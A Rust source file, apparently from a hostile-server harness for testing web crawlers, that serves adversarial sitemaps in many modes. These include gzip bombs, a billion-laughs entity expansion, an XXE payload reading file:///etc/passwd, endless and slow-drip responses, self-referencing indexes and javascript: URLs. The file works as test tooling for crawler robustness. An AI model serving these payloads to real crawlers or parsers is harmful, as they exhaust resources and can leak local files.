//! Sitemaps as a weapon: robots.txt names one, and the front page is honest.

use std::time::Duration;

use super::bombs::{gzip, gzip_of};
use super::mode::{Asked, Expect, Mode};
use super::script::{ENDLESS, Piece, SLOW, Script, TICK};

const FAMILY: &str = "sitemaps";
const URLS: &str =
    "<?xml version=\"1.0\"?>\n<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">\n";
const INDEX: &str = "<?xml version=\"1.0\"?>\n\
    <sitemapindex xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">\n";

pub(super) fn modes() -> Vec<Mode> {
    let mode = |name, does, answer: fn(&Asked<'_>) -> Script| {
        Mode::new(FAMILY, name, does, Expect::Page, answer)
    };
    vec![
        mode("sitemap-bomb", "a sitemap of a gibibyte in gzip", |asked| {
            about(asked, || {
                Script::document(
                    "application/gzip",
                    "",
                    gzip_of(b"<url><loc>/a</loc></url>", 1024),
                )
            })
        }),
        mode("sitemap-bomb-twice", "a sitemap in gzip in gzip", |asked| {
            about(asked, || {
                Script::document(
                    "application/gzip",
                    "Content-Encoding: gzip\r\n",
                    gzip(&gzip_of(b"<url/>", 1024)),
                )
            })
        }),
        mode(
            "sitemap-index-loop",
            "an index that names itself",
            |asked| {
                about(asked, || {
                    xml(format!(
                        "{INDEX}<sitemap><loc>{}/sitemap.xml</loc></sitemap></sitemapindex>",
                        asked.origin()
                    ))
                })
            },
        ),
        mode(
            "sitemap-index-endless",
            "every sitemap is an index of ten more",
            |asked| {
                about(asked, || {
                    let (origin, number) = (asked.origin(), asked.number());
                    let more = (0..10).map(|n| {
                        format!(
                            "<sitemap><loc>{origin}/sitemap-{}</loc></sitemap>",
                            number.saturating_mul(10) + n
                        )
                    });
                    xml(format!(
                        "{INDEX}{}</sitemapindex>",
                        more.collect::<String>()
                    ))
                })
            },
        ),
        mode(
            "sitemap-million",
            "a million addresses, of which none is there",
            |asked| {
                about(asked, || {
                    let origin = asked.origin();
                    // The addresses are relative to whatever the sitemap is: absolute ones would
                    // need the port.
                    let url = |number| {
                        let urls = (0..100)
                            .map(|n| format!("<url><loc>/page-{}</loc></url>\n", number * 100 + n));
                        urls.collect()
                    };
                    Script::new()
                        .send(format!(
                            "HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\nConnection: \
                        close\r\n\r\n{URLS}<url><loc>{origin}/first</loc></url>"
                        ))
                        .stream(Piece::Numbered(url), 10_000, Duration::ZERO)
                        .send("</urlset>\n")
                        .close()
                })
            },
        ),
        mode(
            "sitemap-laughs",
            "a billion laughs: entities of entities",
            |asked| {
                about(asked, || {
                    let mut entities = "<!ENTITY l0 \"lol\">".to_owned();
                    for level in 1..12 {
                        entities += &format!(
                            "<!ENTITY l{level} \"{}\">",
                            format!("&l{};", level - 1).repeat(10)
                        );
                    }
                    xml(format!(
                        "<?xml version=\"1.0\"?>\n<!DOCTYPE urlset \
                         [{entities}]>\n<urlset><url><loc>&l11;</loc></url></urlset>"
                    ))
                })
            },
        ),
        mode(
            "sitemap-external-entity",
            "an entity that is a file of the visitor's",
            |asked| {
                about(asked, || {
                    xml("<?xml version=\"1.0\"?>\n<!DOCTYPE u [<!ENTITY f \
                         SYSTEM \"file:///etc/passwd\"><!ENTITY % d \
                         SYSTEM \"http://127.0.0.1:1/x.dtd\"> \
                         %d;]>\n<urlset><url><loc>/&f;</loc></url></urlset>")
                })
            },
        ),
        mode("sitemap-endless", "a sitemap without end", |asked| {
            about(asked, || {
                let url = |number| format!("<url><loc>/page-{number}</loc></url>\n");
                Script::new()
                    .send(format!(
                        "HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\n\r\n{URLS}"
                    ))
                    .stream(Piece::Numbered(url), ENDLESS, TICK)
            })
        }),
        mode(
            "sitemap-slow",
            "a sitemap of three letters a second",
            |asked| {
                about(asked, || {
                    Script::new()
                        .send(
                            "HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\nContent-Length: \
                        9000\r\n\r\n",
                        )
                        .drip(URLS.repeat(20), SLOW)
                })
            },
        ),
        mode(
            "sitemap-nested",
            "100,000 elements within each other",
            |asked| about(asked, || xml(format!("{URLS}{}", "<url>".repeat(100_000)))),
        ),
        mode(
            "sitemap-attributes",
            "an element of 100,000 attributes",
            |asked| {
                about(asked, || {
                    let attributes: String = (0..100_000).map(|n| format!(" a{n}=\"\"")).collect();
                    xml(format!(
                        "{URLS}<url{attributes}><loc>/a</loc></url></urlset>"
                    ))
                })
            },
        ),
        mode("sitemap-is-html", "a page instead of a sitemap", |asked| {
            about(asked, || asked.page())
        }),
        mode(
            "sitemap-foreign",
            "addresses of other hosts, of files, and of scripts",
            |asked| {
                about(asked, || {
                    let urls = [
                        "http://example.com/",
                        "file:///etc/passwd",
                        "javascript:alert(1)",
                        "http://127.0.0.1:1/",
                    ];
                    let urls: String = urls
                        .iter()
                        .map(|url| format!("<url><loc>{url}</loc></url>"))
                        .collect();
                    xml(format!("{URLS}{urls}</urlset>"))
                })
            },
        ),
        mode(
            "sitemap-named-thousandfold",
            "robots.txt names 5,000 sitemaps",
            |asked| {
                if asked.request.target != "/robots.txt" {
                    return about(asked, || asked.page());
                }
                let origin = asked.origin();
                let lines: String = (0..5000)
                    .map(|n| format!("Sitemap: {origin}/sitemap-{n}.xml\n"))
                    .collect();
                Script::document("text/plain", "", lines)
            },
        ),
        mode(
            "sitemap-dates-odd",
            "dates and priorities that cannot be",
            |asked| {
                about(asked, || {
                    let origin = asked.origin();
                    xml(format!(
                        "{URLS}<url><loc>{origin}/a</loc><lastmod>99999-99-99T99:99Z</lastmod>\
                         <priority>NaN</priority><changefreq>\0</changefreq></url></urlset>"
                    ))
                })
            },
        ),
    ]
}

/// robots.txt names a sitemap, what has `sitemap` in its name is this, and the rest are pages.
fn about(asked: &Asked<'_>, sitemap: impl FnOnce() -> Script) -> Script {
    match asked.request.target.as_str() {
        "/robots.txt" => Script::document(
            "text/plain",
            "",
            format!("Sitemap: {}/sitemap.xml\n", asked.origin()),
        ),
        "/" => asked.page(),
        target if target.contains("sitemap") => sitemap(),
        _ => Script::not_found(),
    }
}

fn xml(text: impl AsRef<[u8]>) -> Script {
    Script::document("application/xml", "", text)
}
